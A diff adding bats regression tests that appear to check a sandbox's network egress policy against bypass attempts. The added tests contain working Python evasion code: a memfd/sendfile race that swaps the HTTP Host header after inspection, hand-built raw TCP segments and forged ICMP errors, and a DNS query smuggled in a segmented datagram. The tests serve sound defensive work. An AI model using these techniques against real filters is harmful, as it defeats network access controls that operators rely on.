@@ -299,6 +299,98 @@ at_shared_address() {
     remove_box
 }
 
+@test "attack: what is changed in memory after it was looked at does not leave" {
+    at_shared_address
+    run inside /usr/bin/python3 -c "
+import os, socket, time
+head = b'GET /secret HTTP/1.1\\r\\nHost: shared-good.example.test\\r\\n'
+fd = os.memfd_create('head')
+os.write(fd, head)
+s = socket.create_connection(('$shared4', 80))
+os.sendfile(s.fileno(), fd, 0, len(head))
+time.sleep(0.1)  # it waits for the rest of it, and shares its page with us
+os.pwrite(fd, head.replace(b'good', b'evil'), 0)
+s.send(b'\\r\\n')
+print(s.recv(100))"
+    run ! served '.host == "shared-evil.example.test"'
+    remove_box
+}
+
+# by_hand SCRIPT: with what makes a segment of IPv4, and an error about one.
+by_hand() {
+    run inside /usr/bin/python3 -c '
+import socket, struct, sys, time
+def summed(b):
+    b += b"\0" * (len(b) % 2)
+    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while n >> 16: n = (n & 0xffff) + (n >> 16)
+    return ~n & 0xffff
+def segment(src, dst, seq, ack, flags, data):
+    a, b = socket.inet_aton(src[0]), socket.inet_aton(dst[0])
+    def tcp(s): return struct.pack("!HHIIBBHHH", src[1], dst[1], seq & 0xffffffff, ack & 0xffffffff, 0x50, flags, 1024, s, 0) + data
+    t = tcp(summed(a + b + struct.pack("!BBH", 0, 6, len(tcp(0))) + tcp(0)))
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(t), 7, 0, 64, 6, 0, a, b) + t
+def error_about(src, dst):
+    q = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 7, 0, 64, 6, 0, socket.inet_aton(dst[0]), socket.inet_aton(src[0]))
+    q = q[:10] + struct.pack("!H", summed(q)) + q[12:] + struct.pack("!HHI", dst[1], src[1], 0) + bytes(12)
+    return struct.pack("!BBHI", 3, 3, summed(struct.pack("!BBHI", 3, 3, 0, 0) + q), 0) + q
+raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+'"$1"
+}
+
+@test "attack: a second beginning of a connection does not make its bytes count anew" {
+    use_policy "$(to limited "{ cidr: $other4, port: $sink }" 'max_bytes_per_call: 10000')"
+    start_box CAP_NET_RAW
+    by_hand '
+s = socket.create_connection(("'"$other4"'", '"$sink"'))
+for i in range(10):
+    s.sendall(b"x" * 5000)
+    time.sleep(0.1)
+    raw.sendto(segment(s.getsockname(), s.getpeername(), 1, 0, 2, b"y"), s.getpeername())
+    time.sleep(0.1)'
+    [ "$(bytes_arrived "tcp and src host $box4 and dst port $sink and tcp[tcpflags] & tcp-syn == 0" | sort -n | tail -n 1)" -le 10000 ]
+    remove_box
+}
+
+@test "attack: an error about a connection that is yet to tell its name does not free it" {
+    use_policy "$(to name '{ host: shared-good.example.test }')"
+    start_box CAP_NET_RAW
+    says "NOERROR $shared4" dns "$dns4" 53 shared-good.example.test A
+    by_hand '
+s = socket.create_connection(("'"$shared4"'", 80))
+icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+icmp.sendto(error_about(s.getsockname(), s.getpeername()), s.getpeername())
+time.sleep(0.3)
+s.sendall(b"GET / HTTP/1.1\r\nHost: shared-evil.example.test\r\n\r\n")
+print(s.recv(100))'
+    run ! served '.host == "shared-evil.example.test"'
+    run ! text_arrived shared-evil
+    remove_box
+}
+
+@test "attack: several queries in one datagram that is cut apart later do not leave" {
+    at_shared_address
+    run inside /usr/bin/python3 -c "
+import socket, struct
+def query(name): return struct.pack('!6H', 1, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0\\0\\1\\0\\1'
+evil, good = query(b'hidden-query.test'), query(b'shared-good.example.test')
+opt = b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0'
+room = len(good) + len(opt) + 6
+one = good[:10] + b'\\0\\1' + good[12:] + opt + struct.pack('!HHH', 4 + len(evil), 12, len(evil))
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(17, 103, len(one))
+s.sendto(one + evil, ('$dns4', 53))"
+    run ! text_arrived hidden-query
+    remove_box
+}
+
+@test "a large first write to the address of a name arrives whole" {
+    at_shared_address
+    run -0 inside curl -sS -m 20 -H Expect: --data-binary "$(head -c 60000 /dev/zero | tr '\0' z)" http://shared-good.example.test/
+    retry_until served '.host == "shared-good.example.test"'
+    remove_box
+}
+
 @test "attack: something else than HTTP and TLS to the address of a name is refused" {
     at_shared_address
     refuses connect "$shared4" 443 'SSH-2.0-secret'
